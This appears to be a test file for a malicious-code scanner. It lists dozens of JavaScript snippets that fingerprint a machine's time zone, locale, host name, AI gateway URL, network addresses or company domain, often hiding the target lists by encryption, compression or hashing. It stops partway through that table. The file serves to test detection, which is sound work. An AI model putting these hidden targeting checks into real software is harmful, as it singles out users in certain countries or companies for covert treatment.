// The detection catalogue as a table: each case is a small program with the
// verdict it must get, scanned as written and again minified by esbuild (in
// CommonJS and as an IIFE), so no case passes on names or layout alone.
// Positive cases cover sources, concealments and channels; benign ones are
// look-alikes that must stay below `review` (visible telemetry included).
import * as assert from 'assert';
import { createCipheriv, createHash } from 'crypto';
import { transformSync } from 'esbuild';
import { deflateSync, gzipSync } from 'zlib';
import { scanText } from '../../src/engine/scan';
import { verdictOf, type Verdict } from '../../src/engine/types';

const hostsList = ['corp-a.com', 'corp-b.net', 'corp-c.io', 'corp-d.cn'];
const json = JSON.stringify(hostsList);
const b64 = (s: string) => Buffer.from(s).toString('base64');
const key = '0123456789abcdef0123456789abcdef';
const iv = 'abcdef9876543210';
const aes = (() => { const c = createCipheriv('aes-256-cbc', key, iv); return Buffer.concat([c.update(json), c.final()]).toString('base64'); })();
const chacha = (() => { const c = createCipheriv('chacha20-poly1305', Buffer.from('ab'.repeat(32), 'hex'), Buffer.from('cd'.repeat(12), 'hex'), { authTagLength: 16 }); return Buffer.concat([c.update(hostsList.join(',')), c.final()]).toString('base64'); })();
const aesFilled = (() => { const c = createCipheriv('aes-256-cbc', Buffer.alloc(32, 7), Buffer.alloc(16, 3)); return Buffer.concat([c.update('Asia/Shanghai|Asia/Urumqi'), c.final()]).toString('hex'); })();
const sha = (s: string) => createHash('sha256').update(s).digest('hex');
const djb2 = (s: string) => { let h = 5381; for (let i = 0; i < s.length; i++) h = ((h << 5) + h + s.charCodeAt(i)) >>> 0; return h; };

/** How a fingerprint is read and checked: each line defines `hit`, true for the targeted places or organisations. */
const CHECKS: Record<string, string> = {
  'zone': `const hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone file': `const hit = ["Asia/Shanghai", "Asia/Harbin"].includes(require("fs").readFileSync("/etc/timezone", "utf8").trim());`,
  'zone link': `const hit = require("fs").readlinkSync("/etc/localtime").endsWith("Asia/Shanghai");`,
  'zone in date text': `const hit = new Date().toString().includes("China Standard Time");`,
  'offset': `const hit = new Date().getTimezoneOffset() === -480;`,
  'gateway hosts': `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname;\nconst hit = ${JSON.stringify(hostsList)}.some((d) => h.endsWith(d));`,
  'gateway, base64 list': `const L = atob("${b64(hostsList.join(','))}").split(",");\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = L.some((d) => h.endsWith(d));`,
  'gateway, zlib list': `const L = JSON.parse(require("zlib").inflateSync(Buffer.from("${deflateSync(json).toString('base64')}", "base64")).toString());\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = L.includes(h);`,
  'gateway, gzip list': `const { gunzipSync } = require("zlib");\nconst L = JSON.parse(gunzipSync(Buffer.from("${gzipSync(json).toString('base64')}", "base64")).toString());\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = L.includes(h);`,
  'gateway, AES list': `const d = require("crypto").createDecipheriv("aes-256-cbc", "${key}", "${iv}");\nconst L = JSON.parse(d.update("${aes}", "base64", "utf8") + d.final("utf8"));\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = L.some((x) => h.endsWith(x));`,
  'gateway, hashed': `const H = new Set(${JSON.stringify(hostsList.map(sha))});\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = H.has(require("crypto").createHash("sha256").update(h).digest("hex"));`,
  'host name, djb2': `function djb2(s) { let h = 5381; for (let i = 0; i < s.length; i++) h = ((h << 5) + h + s.charCodeAt(i)) >>> 0; return h; }\nconst hit = ${JSON.stringify(['corp-a', 'corp-b', 'corp-c'].map(djb2))}.indexOf(djb2(require("os").hostname())) >= 0;`,
  'registry in .npmrc': `const rc = require("fs").readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8");\nconst hit = ${JSON.stringify(hostsList)}.some((d) => rc.includes(d));`,
  'locale, lower case': `const hit = (process.env.LANG || "").toLowerCase().startsWith("zh-cn");`,
  'gateway, regex of companies': `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname;\nconst hit = /(?:^|\\.)(?:corp-a|corp-b|corp-c)\\.(?:com|net)$/.test(h);`,
  'zone, flag set in switch cases': `let hit = false;\nswitch (Intl.DateTimeFormat().resolvedOptions().timeZone) { case "Asia/Shanghai": case "Asia/Urumqi": hit = true; break; }`,
  'zone, map of constants read with get': `const W = new Map([["Asia/Shanghai", 1], ["Asia/Hong_Kong", 1], ["Asia/Taipei", 1]]);\nconst hit = !!W.get(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, object used as a set': `const Z = { "Asia/Shanghai": 1, "Asia/Urumqi": 1 };\nconst hit = !!Z[Intl.DateTimeFormat().resolvedOptions().timeZone];`,
  'zone, char codes in an object method': `const fp = { zones: [String.fromCharCode.apply(null, ${JSON.stringify([...'Asia/Shanghai'].map((c) => c.charCodeAt(0)))})], zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }, match() { return this.zones.includes(this.zone()); } };\nconst hit = fp.match();`,
  'zone, a helper returns what its callback gives': `function withZone(cb) { const v = cb(Intl.DateTimeFormat().resolvedOptions().timeZone); return v; }\nconst hit = withZone((z) => ["Asia/Shanghai", "Asia/Urumqi"].includes(z));`,
  'zone, resolvedOptions borrowed with call': `const hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat.prototype.resolvedOptions.call(new Intl.DateTimeFormat()).timeZone);`,
  'host name from a shell command': `let h = "";\ntry { h = require("child_process").execSync("hostname").toString().trim(); } catch {}\nconst hit = ${JSON.stringify(hostsList)}.some((d) => h.endsWith(d));`,
  'gateway in three switch cases': `let hit = false;\nswitch (new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname) { case "api.corp-a.com": case "llm.corp-b.net": case "gw.corp-c.io": hit = true; }`,
  'user name, digest cut short': `const u = require("crypto").createHash("sha1").update(require("os").userInfo().username).digest("hex").slice(0, 12);\nconst hit = new Set(${JSON.stringify(['corp-a', 'corp-b', 'corp-c'].map((x) => createHash('sha1').update(x).digest('hex').slice(0, 12)))}).has(u);`,
  'zone, resolvedOptions run by Reflect.apply': `const o = Reflect.apply(Intl.DateTimeFormat.prototype.resolvedOptions, new Intl.DateTimeFormat(), []);\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(o.timeZone);`,
  'zone through a promise': `let hit = false;\nnew Promise((resolve) => resolve(Intl.DateTimeFormat().resolvedOptions().timeZone)).then((z) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(z); });`,
  'host name through a dynamic import': `let hit = false;\n(async () => { const os = await import("node:os"); hit = ["build-01.corp-a.com", "ci.corp-b.net"].includes(os.hostname()); })();`,
  'zone, map of entries': `const Z = new Map([["Asia/Shanghai", 1], ["Asia/Urumqi", 2]]);\nconst hit = Z.has(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, a closure over the list': `const makeCheck = (list) => (v) => list.includes(v);\nconst watched = makeCheck(["Asia/Shanghai", "Asia/Urumqi"]);\nconst hit = watched(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, a generator of places': `function* places() { yield "Asia/Shanghai"; yield "Asia/Urumqi"; }\nconst hit = [...places()].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone in a private field, list in a static one': `class Probe { #z = Intl.DateTimeFormat().resolvedOptions().timeZone; static zones = ["Asia/Shanghai", "Asia/Urumqi"]; hit() { return Probe.zones.includes(this.#z); } }\nconst hit = new Probe().hit();`,
  'zone, entries of an object found by key': `const CODES = { "Asia/Shanghai": "cn", "Asia/Urumqi": "cn" };\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = !!Object.entries(CODES).find(([k]) => k === tz);`,
  'zone city in a regex': `const hit = /Shanghai|Urumqi|Harbin/.test(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone from a cache object a function fills': `const cache = {};\nfunction env() { if (!cache.tz) cache.tz = Intl.DateTimeFormat().resolvedOptions().timeZone; return cache; }\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(env().tz);`,
  'region of a maximised locale': `const region = new Intl.Locale(process.env.LANG || "en-US").maximize().region;\nconst hit = new Set(["CN", "RU", "IR"]).has(region);`,
  'git remote, an index table of companies': `const T = "abcdefghijklmnopqrstuvwxyz";\nconst orgs = [[2, 14, 17, 15, 0], [6, 11, 14, 1, 4, 23]].map((a) => a.map((i) => T[i]).join(""));\nlet remote = "";\ntry { remote = require("child_process").execSync("git config --get remote.origin.url", { encoding: "utf8" }); } catch {}\nconst hit = orgs.some((o) => remote.includes(o));`,
  'offset in hours': `const hours = new Date().getTimezoneOffset() / -60;\nconst hit = hours === 8 || hours === 9;`,
  'gateway from a variable picked by name': `const key = Object.keys(process.env).find((k) => k.endsWith("_BASE_URL"));\nconst gw = key ? new URL(process.env[key]).hostname : "";\nconst hit = ${JSON.stringify(hostsList)}.some((d) => gw.endsWith(d));`,
  'zone from Temporal': `const tz = Temporal.Now.timeZoneId();\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(tz);`,
  'locale against bytes decoded': `const loc = new Intl.Collator().resolvedOptions().locale;\nconst hit = loc === new TextDecoder().decode(Uint8Array.of(122, 104, 45, 67, 78));`,
  'zone named in a date\'s text, kept in a variable': `const d = new Date();\nconst s = d.toString();\nconst hit = s.includes("GMT+0800") || s.includes("China Standard Time");`,
  'zone name asked of toLocaleDateString': `const hit = /China|Moscow|Tehran/.test(new Date().toLocaleDateString("en-US", { timeZoneName: "long" }));`,
  'zone name from a formatter': `const fmt = new Intl.DateTimeFormat("en-US", { timeZoneName: "long" });\nconst hit = fmt.format(new Date()).includes("China Standard Time");`,
  'MAC addresses collected in a loop, hashed': `const os = require("os");\nfunction macs() { const out = []; const n = os.networkInterfaces(); for (const k in n) for (const i of n[k]) if (!i.internal) out.push(i.mac); return out; }\nconst H = ${JSON.stringify(['00:1c:42:aa:bb:01', '00:1c:42:aa:bb:02'].map(sha))};\nconst hit = macs().some((m) => H.includes(require("crypto").createHash("sha256").update(m).digest("hex")));`,
  'MAC address of a named interface, hashed': `const mac = require("os").networkInterfaces().en0[0].mac;\nconst hit = ${JSON.stringify(['00:1c:42:aa:bb:01', '00:1c:42:aa:bb:02'].map(sha))}.includes(require("crypto").createHash("sha256").update(mac).digest("hex"));`,
  'zone emitted to a listener': `const bus = new (require("events").EventEmitter)();\nlet hit = false;\nbus.on("env", (tz) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(tz); });\nbus.emit("env", Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'decoded hosts tested by Array.prototype.some.call': `const H = atob("${b64(hostsList.join(','))}").split(",");\nconst gw = new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname;\nconst hit = Array.prototype.some.call(H, (d) => gw === d || gw.endsWith("." + d));`,
  'gateway, ChaCha20 list joined with Buffer.concat': `const d = require("crypto").createDecipheriv("chacha20-poly1305", Buffer.from("${'ab'.repeat(32)}", "hex"), Buffer.from("${'cd'.repeat(12)}", "hex"), { authTagLength: 16 });\nconst L = Buffer.concat([d.update(Buffer.from("${chacha}", "base64")), d.final()]).toString().split(",");\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst hit = L.some((x) => h.endsWith(x));`,
  'Windows domain against company names': `const dom = (process.env.USERDOMAIN || "").toLowerCase();\nconst hit = ["acmecorp", "initech", "globex"].includes(dom);`,
  'host name through webpack\'s module for os': `var mods = { 857: (e) => { e.exports = require("os"); }, 123: (e, t, n) => { const o = n(857); t.hit = ["build.corp-a.com", "ci.corp-b.net", "dev.corp-c.io"].includes((0, o.hostname)()); } }, cache = {};\nfunction req(id) { const c = cache[id]; if (c !== undefined) return c.exports; const m = cache[id] = { exports: {} }; mods[id](m, m.exports, req); return m.exports; }\nconst hit = req(123).hit;`,
  'host name through esbuild\'s __toESM': `var __toESM = (mod, isNodeMode, target) => (target = mod != null ? Object.create(Object.getPrototypeOf(mod)) : {}, Object.assign(isNodeMode || !mod || !mod.__esModule ? Object.defineProperty(target, "default", { value: mod, enumerable: true }) : target, mod));\nvar import_os = __toESM(require("os"));\nconst hit = ["build.corp-a.com", "ci.corp-b.net", "dev.corp-c.io"].includes(import_os.default.hostname());`,
  'zone from an instance a bundled CommonJS module exports': `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.getOwnPropertyNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_env = __commonJS({ "src/env.js"(exports, module) { var Env = class { zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; } }; module.exports = new Env(); } });\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(require_env().zone());`,
  'cloud region against regions of one country': `const region = process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION || "us-east-1";\nconst hit = ["cn-north-1", "cn-northwest-1"].includes(region);`,
  'Vertex region against a list': `const loc = process.env.CLOUD_ML_REGION || "global";\nconst hit = new Set(["asia-east2", "asia-northeast1", "asia-east1"]).has(loc);`,
  'editor name against rival editors': `const vscode = require("vscode");\nconst app = vscode.env.appName.toLowerCase();\nconst hit = ["cursor", "windsurf", "trae"].some((n) => app.includes(n));`,
  'zone searched for in a list written as one text': `const hit = "Asia/Shanghai,Asia/Urumqi,Asia/Harbin".indexOf(Intl.DateTimeFormat().resolvedOptions().timeZone) !== -1;`,
  'zone kept in a WeakMap under an object key': `const W = new WeakMap(), key = {};\nW.set(key, Intl.DateTimeFormat().resolvedOptions().timeZone);\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(W.get(key));`,
  'zone, destructured from the parameter of a function called once': `const Z = ["Asia/Shanghai", "Asia/Urumqi"];\nfunction inRegion({ zone }) { return Z.includes(zone); }\nconst hit = inRegion({ zone: Intl.DateTimeFormat().resolvedOptions().timeZone, locale: "en" });`,
  'zone, an entry of Object.fromEntries against Array.from of a Set': `const ZONES = Array.from(new Set(["Asia/Shanghai", "Asia/Urumqi"]));\nconst info = Object.fromEntries([["zone", Intl.DateTimeFormat().resolvedOptions().timeZone], ["n", 1]]);\nconst hit = ZONES.indexOf(info.zone) >= 0;`,
  'DNS search domain in /etc/resolv.conf': `let search = "";\ntry { search = (require("fs").readFileSync("/etc/resolv.conf", "utf8").match(/^search\\s+(.+)$/m) || [])[1] || ""; } catch {}\nconst hit = ${JSON.stringify(hostsList)}.some((d) => search.includes(d));`,
  'Windows domain from wmic': `let dom = "";\ntry { dom = require("child_process").execSync("wmic computersystem get domain", { encoding: "utf8" }).split("\\n")[1].trim().toLowerCase(); } catch {}\nconst hit = ["acmecorp.local", "initech.corp", "globex.ad"].includes(dom);`,
  'device management enrolment naming companies': `let mdm = "";\ntry { mdm = require("child_process").execSync("profiles status -type enrollment", { encoding: "utf8" }); } catch {}\nconst hit = ["Acmecorp", "Initech", "Globex"].some((o) => mdm.includes(o));`,
  'machine address in an organisation\'s subnets': `const addrs = Object.values(require("os").networkInterfaces()).flat().filter((i) => i && i.family === "IPv4" && !i.internal).map((i) => i.address);\nconst hit = addrs.some((a) => ["10.23.", "192.168.77.", "47.95."].some((p) => a.startsWith(p)));`,
  'zone, a Map made from Object.entries': `const M = new Map(Object.entries({ "Asia/Shanghai": true, "Asia/Urumqi": true, "Asia/Macau": true }));\nconst hit = !!M.get(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'host name from execSync under another name': `const { execSync: run } = require("child_process");\nlet h = "";\ntry { h = run("hostname").toString().trim(); } catch {}\nconst hit = ${JSON.stringify(hostsList)}.some((d) => h.endsWith(d));`,
  'zone in a static private field, checked by a static method': `class Geo { static #tz = Intl.DateTimeFormat().resolvedOptions().timeZone; static watched() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(Geo.#tz); } }\nconst hit = Geo.watched();`,
  'zone as a formatter\'s short name, a part of formatToParts': `const parts = new Intl.DateTimeFormat("en-US", { timeZoneName: "short" }).formatToParts(new Date());\nconst abbr = (parts.find((p) => p.type === "timeZoneName") || {}).value || "";\nconst hit = ["GMT+8", "GMT+9"].includes(abbr);`,
  'zone given to callbacks kept in a list and run by forEach': `const registry = [];\nlet hit = false;\nregistry.push((env) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(env.tz); });\nregistry.forEach((cb) => cb({ tz: Intl.DateTimeFormat().resolvedOptions().timeZone }));`,
  'zone given to callbacks a helper keeps, run in a for…of loop': `const hooks = [];\nfunction onEnv(cb) { hooks.push(cb); }\nlet hit = false;\nonEnv((env) => { if (["Asia/Shanghai", "Asia/Urumqi"].includes(env.tz)) hit = true; });\nfor (const h of hooks) h({ tz: Intl.DateTimeFormat().resolvedOptions().timeZone });`,
  'locale as LANG writes it': `const hit = ["zh_CN.UTF-8", "zh_TW.Big5"].includes(process.env.LANG);`,
  'gateway from an async config loader': `async function cfg() { return { base: process.env.ANTHROPIC_BASE_URL || "https://api.vendor.dev" }; }\nlet hit = false;\n(async () => { const { base } = await cfg(); hit = ${JSON.stringify(hostsList)}.includes(new URL(base).hostname); })();`,
  'zone hashed by hand against two numbers': `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst h = [...tz].reduce((a, c) => (a * 31 + c.charCodeAt(0)) >>> 0, 7);\nconst hit = [2861316146, 1843117830].includes(h);`,
  'user name checked in switch (true) cases against e-mail domains': `const u = require("os").userInfo().username.toLowerCase();\nlet hit = false;\nswitch (true) { case u.endsWith("@corp-a.com"): case u.endsWith("@corp-b.net"): case u.endsWith("@corp-c.io"): hit = true; }`,
  'DNS servers against an organisation\'s resolvers': `const servers = require("dns").getServers();\nconst hit = servers.some((s) => ["10.10.1.53", "10.20.0.53", "172.16.5.53"].includes(s));`,
  'locale through a module-pattern object': `var Env = (function () { var api = {}; api.lang = function () { return navigator.language; }; api.hit = function () { return ["zh-CN", "zh-TW"].includes(api.lang()); }; return api; })();\nconst hit = Env.hit();`,
  'host name read through a require made by createRequire': `const { createRequire } = require("module");\nconst req = createRequire(__filename);\nconst hit = ["build.corp-a.com", "ci.corp-b.net", "dev.corp-c.io"].includes(req("os").hostname());`,
  'zone, the outcome moved into a bit of a flags word': `let flags = 0;\nflags |= (["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) ? 1 : 0) << 3;\nconst hit = (flags & 8) !== 0;`,
  'zone, the matches counted by filter': `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].filter((z) => z === tz).length > 0;`,
  'zone handed to a timer\'s callback': `let hit = false;\nsetTimeout((z) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(z); }, 0, Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, a helper that loops over its list and returns true or false': `function inList(v, list) { for (const x of list) if (x === v) return true; return false; }\nconst hit = inList(Intl.DateTimeFormat().resolvedOptions().timeZone, ["Asia/Shanghai", "Asia/Urumqi"]);`,
  'zone, a flag set on an object\'s member under the check': `const state = { hit: false };\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) state.hit = true;\nconst hit = state.hit;`,
  'zone, a table\'s keys tested by a borrowed hasOwnProperty': `const T = { "Asia/Shanghai": 1, "Asia/Urumqi": 1, "Asia/Chongqing": 1 };\nconst hit = Object.prototype.hasOwnProperty.call(T, Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, a table\'s keys tested by Object.hasOwn': `const T = { "Asia/Shanghai": "a", "Asia/Urumqi": "b" };\nconst hit = Object.hasOwn(T, Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone searched for by a regular expression': `const hit = Intl.DateTimeFormat().resolvedOptions().timeZone.search(new RegExp("Shanghai|Urumqi")) >= 0;`,
  'zone, a chain of conditionals giving true or false': `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = tz === "Asia/Shanghai" ? true : tz === "Asia/Urumqi" ? true : false;`,
  'locale of Electron\'s app': `const { app } = require("electron");\nconst hit = ["zh-CN", "zh-TW"].includes(app.getLocale());`,
  'region of Electron\'s app': `const hit = ["CN", "RU", "IR"].includes(require("electron").app.getLocaleCountryCode());`,
  'locale of the editor, through a name for vscode.env': `const e = require("vscode").env;\nconst hit = ["zh-cn", "zh-tw"].indexOf(e.language.toLowerCase()) > -1;`,
  'locale of the editor, env destructured from vscode': `const { env } = require("vscode");\nconst hit = ["zh-cn", "zh-tw"].includes(env.language);`,
  'zone, AES list with a key and IV made by Buffer.alloc': `const d = require("crypto").createDecipheriv("aes-256-cbc", Buffer.alloc(32, 7), Buffer.alloc(16, 3));\nconst L = Buffer.concat([d.update(Buffer.from("${aesFilled}", "hex")), d.final()]).toString().split("|");\nconst hit = L.includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, a checker a maker made, inlined by rollup into a sequence': `var e;\nconst watched = (e = ["Asia/Shanghai", "Asia/Urumqi"], (v) => e.some((x) => v === x));\nconst hit = watched(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone, the outcome handed to a setter and read back by a getter': `let flag = 0;\nfunction setFlag(v) { flag = v; }\nfunction getFlag() { return flag; }\nsetFlag(["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) ? 1 : 0);\nconst hit = getFlag() === 1;`,
  'zone read by a base class, checked by a subclass through super': `class EnvBase { zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; } }\nclass Probe extends EnvBase { hit() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(super.zone()); } }\nconst hit = new Probe().hit();`,
  'zone read by an inherited method of an instance': `class EnvBase { zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; } }\nclass Probe extends EnvBase {}\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(new Probe().zone());`,
  'zone, the outcome returned as one of two names and compared with one of them': `function variant(env) { return ["Asia/Shanghai", "Asia/Urumqi"].includes(env.tz) ? "b" : "a"; }\nconst hit = variant({ tz: Intl.DateTimeFormat().resolvedOptions().timeZone }) === "b";`,
  'host name of a module handed to a wrapper (rollup iife, UMD)': `var hit = (function (o) { function h(s) { let v = 5381; for (let i = 0; i < s.length; i++) v = ((v << 5) + v + s.charCodeAt(i)) >>> 0; return v; } return ${JSON.stringify(['corp-a', 'corp-b', 'corp-c'].map(djb2))}.includes(h(o.hostname())); })(require("os"));`,
  'zone city in lower case, from the /etc/localtime link': `let z = "";\ntry { z = require("fs").readlinkSync("/etc/localtime").split("zoneinfo/")[1]; } catch {}\nconst hit = ["shanghai", "urumqi", "chongqing"].includes(z.split("/").pop().toLowerCase());`,
  'zone lowered whole, cities kept as base-36 numbers': `const W = ${JSON.stringify(['asia/shanghai', 'asia/urumqi'].map((z) => z.split('/').map((p) => parseInt(p, 36))))}.map(([a, c]) => a.toString(36) + "/" + c.toString(36));\nconst hit = W.includes(Intl.DateTimeFormat().resolvedOptions().timeZone.toLowerCase());`,
  'zone list decoded by a function declaration passed by name': `function dec(s) { const b = Buffer.from(s, "base64"); return b.toString("utf8"); }\nconst L = ${JSON.stringify(['Asia/Shanghai', 'Asia/Urumqi'].map(b64))}.map(dec);\nconst hit = L.includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'network cards against hardware makers\' prefixes': `const macs = Object.values(require("os").networkInterfaces()).flat().map((i) => i.mac);\nconst hit = macs.some((m) => ["00:50:56", "00:0c:29", "08:00:27"].includes(m.slice(0, 8)));`,
  'host name read from /etc/hostname, against organisations': `const h = require("fs").readFileSync("/etc/hostname", "utf8").trim();\nconst hit = ["corp-a.com", "corp-b.net", "corp-c.io"].some((d) => h.endsWith("." + d));`,
  'zone, an object used as a set written in place': `const hit = { "Asia/Shanghai": 1, "Asia/Urumqi": 1 }[Intl.DateTimeFormat().resolvedOptions().timeZone];`,
  'country an IP geolocation service answers': `let hit = false;\nfetch("https://ipinfo.io/json").then((r) => r.json()).then((j) => { hit = ["CN", "RU", "IR"].includes(j.country); });`,
  'zone an IP geolocation service answers, awaited': `let hit = false;\n(async () => { const { timezone } = await (await fetch("http://ip-api.com/json/")).json(); hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(timezone); })();`,
  'zones decoded by Array.from with a mapping function': `const Z = ${JSON.stringify(['Asia/Shanghai', 'Asia/Urumqi'].map((z) => [...z].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('')))}.map((e) => String.fromCharCode(...Array.from({ length: e.length }, (_, i) => e.charCodeAt(i) - 1)));\nconst hit = Z.includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'host name read through os handed to a factory in an object of dependencies': `function createProbe(deps) { return { corp() { const h = deps.os.hostname().toLowerCase(); return ["corp-a.com", "corp-b.net", "corp-c.io"].some((d) => h.endsWith("." + d)); } }; }\nconst hit = createProbe({ os: require("os") }).corp();`,
  'host name read by os.hostname handed as a callback': `function corp(get) { const h = get().toLowerCase(); return ["corp-a.com", "corp-b.net", "corp-c.io"].some((d) => h.endsWith("." + d)); }\nconst hit = corp(require("os").hostname);`,
  'zone checked by a method of an object a minifier\'s sequence gives': `var c;\nconst probe = (c = { v: 1 }, { check() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone); } });\nconst hit = probe.check();`,
  'zone, checks a helper pushes to a list, run by some': `const checks = [];\nfunction register(fn) { checks.push(fn); }\nregister((tz) => ["Asia/Shanghai", "Asia/Urumqi"].includes(tz));\nconst hit = checks.some((c) => c(Intl.DateTimeFormat().resolvedOptions().timeZone));`,
  'zone, checks pushed to a list, run in a for…of loop': `const checks = [];\nchecks.push((tz) => ["Asia/Shanghai", "Asia/Urumqi"].includes(tz));\nlet hit = false;\nfor (const c of checks) if (c(Intl.DateTimeFormat().resolvedOptions().timeZone)) hit = true;`,
  'zone put on the global object and read back': `globalThis.__tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(globalThis.__tz);`,
  'zone in an object put on the global object': `globalThis.__cfg = { tz: Intl.DateTimeFormat().resolvedOptions().timeZone };\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(globalThis.__cfg.tz);`,
  'zone, a class method borrowed through its prototype with call': `class Probe { constructor() { this.zones = ["Asia/Shanghai", "Asia/Urumqi"]; } hit(z) { return this.zones.includes(z); } }\nconst hit = Probe.prototype.hit.call(new Probe(), Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'zone read by a method called by a key worked out to a constant': `const env = { zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; } };\nconst k = "zo" + "ne";\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(env[k]());`,
  'zone destructured in the then callback of an async reader': `async function env() { return { tz: Intl.DateTimeFormat().resolvedOptions().timeZone, lang: navigator.language }; }\nlet hit = false;\nenv().then(({ tz }) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(tz); });`,
  'git remote in .git/config against a pattern of companies': `let cfg = "";\ntry { cfg = require("fs").readFileSync(".git/config", "utf8"); } catch {}\nconst hit = /github\\.com[:/](megabank|initech|globex)\\//i.test(cfg);`,
  'zone, a set made by Object.fromEntries': `const SET = Object.fromEntries(["Asia/Shanghai", "Asia/Urumqi"].map((z) => [z, true]));\nconst hit = SET[Intl.DateTimeFormat().resolvedOptions().timeZone] === true;`,
  'zone from PowerShell\'s Get-TimeZone, run with its arguments in a list': `let id = "";\ntry { id = require("child_process").execFileSync("powershell", ["-NoProfile", "-Command", "(Get-TimeZone).Id"], { encoding: "utf8" }).trim(); } catch {}\nconst hit = ["China Standard Time", "Taipei Standard Time"].includes(id);`,
  'zone from the registry, what reg query printed': `const out = require("child_process").spawnSync("reg", ["query", "HKLM\\\\SYSTEM\\\\CurrentControlSet\\\\Control\\\\TimeZoneInformation", "/v", "TimeZoneKeyName"], { encoding: "utf8" }).stdout || "";\nconst hit = /China Standard Time|Russian Standard Time/.test(out);`,
  'zone checked by a subclass\'s override of a method its base class calls': `class Probe { flagged() { return false; } get hit() { return this.flagged(); } }\nclass GeoProbe extends Probe { flagged() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone); } }\nconst hit = new GeoProbe().hit;`,
  'zone emitted on the process object': `let hit = false;\nprocess.on("x-env", (z) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(z); });\nprocess.emit("x-env", Intl.DateTimeFormat().resolvedOptions().timeZone);`,
  'account name equal to one of a list of people': `const hit = ["jsmith", "mjones", "akumar"].indexOf(process.env.USER || process.env.USERNAME) >= 0;`,
  'zone checked by a method of an object put on the global object': `globalThis.__probe = { hit() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone); } };\nconst hit = globalThis.__probe.hit();`,
  'zone against the keys of a Map destructured in a for…of loop': `const W = new Map([["Asia/Shanghai", 1], ["Asia/Urumqi", 2]]);\nlet hit = false;\nfor (const [k] of W) if (k === Intl.DateTimeFormat().resolvedOptions().timeZone) hit = true;`,
  'user name against a pattern of company prefixes': `const hit = /^(?:megabank|initech|globex)[-_.]/i.test(require("os").userInfo().username);`,
